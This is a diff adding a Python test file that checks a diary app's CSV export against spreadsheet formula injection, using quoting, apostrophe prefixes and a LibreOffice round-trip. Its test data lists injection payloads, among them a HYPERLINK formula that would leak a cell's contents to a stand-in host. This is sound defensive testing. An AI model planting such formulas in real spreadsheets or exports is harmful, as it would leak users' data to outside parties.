@@ -1,0 +1,111 @@
+"""Issue 12, item 8: the CSV export survives a real spreadsheet. Every field quoted; a text
+cell starting like a formula (=, +, -, @, tab, CR, NUL) prefixed with an apostrophe, as
+OWASP recommends; UTF-8 without a byte-order mark (LibreOffice does not need one: see the
+README). Where LibreOffice is installed, the file is opened in it and every cell checked."""
+
+import csv
+import html
+import os
+import re
+import shutil
+import subprocess
+import zipfile
+from datetime import datetime, timedelta
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from companion.domain.entries import Entry, EntryKind
+from companion.service.diary import DiaryService
+from companion.service.exports import HEADER, export_csv
+from companion.service.spreadsheet import FORMULA_STARTS, text_cell
+from tests.storage.crafted import make_diary
+
+NOW = datetime(2026, 6, 1, 10, 0).astimezone()
+
+HOSTILE = [
+    "=1+1",
+    '=HYPERLINK("https://example.invalid/?leak="&A1,"Click")',
+    "+1",
+    "-1",
+    "@SUM(1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\0=1+1",
+    "a; b; c, and more",  # the sample's own note split across columns in LibreOffice
+    'she said "hi"\nand left',
+    "plain note",
+]
+
+
+@pytest.fixture
+def exported(tmp_path):
+    """The sample diary (temperatures in °C…) with hostile notes, exported."""
+    folder = tmp_path / "data"
+    service = DiaryService.open(make_diary(folder), lambda: NOW)
+    try:
+        for n, note in enumerate(HOSTILE):
+            service.log_entry(Entry(NOW - timedelta(minutes=30 - n), EntryKind.NOTE, note=note))
+        out = tmp_path / "diary.csv"
+        export_csv(service, out)
+    finally:
+        service.close()
+    return out
+
+
+@given(st.text())
+def test_a_text_cell_never_starts_like_a_formula(text):
+    cell = text_cell(text)
+    assert not cell.startswith(FORMULA_STARTS)
+    assert cell in (text, "'" + text)
+
+
+def test_every_field_is_quoted_and_formulas_are_inert(exported):
+    raw = exported.read_bytes()
+    assert not raw.startswith(b"\xef\xbb\xbf")  # no byte-order mark
+    text = raw.decode("utf-8")
+    assert "°C" in text
+    with exported.open(encoding="utf-8", newline="") as handle:
+        rows = list(csv.reader(handle))
+    assert rows[0] == list(HEADER)
+    notes = [row[-1] for row in rows[1:]][-len(HOSTILE) :]
+    for typed, cell in zip(HOSTILE, notes, strict=True):
+        saved = typed.strip()  # a note is saved without outer spaces, tabs and line ends
+        expected = "'" + saved if saved.startswith(FORMULA_STARTS) else saved
+        assert cell == expected
+    # QUOTE_ALL: every field of every record opens with a quote (records end in CRLF).
+    for record in re.split(r'\r\n(?=")', text.rstrip("\r\n")):
+        fields = re.findall(r'(?:^|,)("(?:[^"]|"")*"|[^,]*)', record)
+        assert fields and all(f.startswith('"') for f in fields), record
+
+
+SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
+
+
+@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not installed")
+@pytest.mark.parametrize(
+    "options",
+    ["44,34,76,1", None],
+    ids=["Calc's import settings: comma, UTF-8", "Calc's command-line defaults"],
+)
+def test_libreoffice_opens_every_note_as_text(exported, tmp_path, options):
+    """Converted to .xlsx by LibreOffice Calc itself: no cell is a formula and no formula's
+    value appears; every hostile note is a string with its apostrophe."""
+    env = dict(os.environ, HOME=str(tmp_path))  # a fresh LibreOffice profile
+    command = [SOFFICE, "--headless"]
+    if options:
+        command.append(f"--infilter=Text - txt - csv (StarCalc):{options}")
+    command += ["--convert-to", "xlsx", "--outdir", str(tmp_path / "out"), str(exported)]
+    subprocess.run(command, check=True, capture_output=True, env=env, timeout=180)
+    with zipfile.ZipFile(tmp_path / "out" / "diary.xlsx") as book:
+        sheet = book.read("xl/worksheets/sheet1.xml").decode("utf-8")
+        shared = book.read("xl/sharedStrings.xml").decode("utf-8")
+    strings = [html.unescape(t) for t in re.findall(r"<t[^>]*>(.*?)</t>", shared, re.S)]
+    assert "<f>" not in sheet  # no formula anywhere
+    assert "Click" not in strings  # HYPERLINK never ran
+    for note in ("'=1+1", "'+1", "'-1", "'@SUM(1)", "a; b; c, and more", "plain note"):
+        assert note in strings  # one cell, the apostrophe showing
+    assert any(s.startswith("'=HYPERLINK(") for s in strings)
+    if options:  # told it is UTF-8, the units are intact
+        assert "°C" in strings
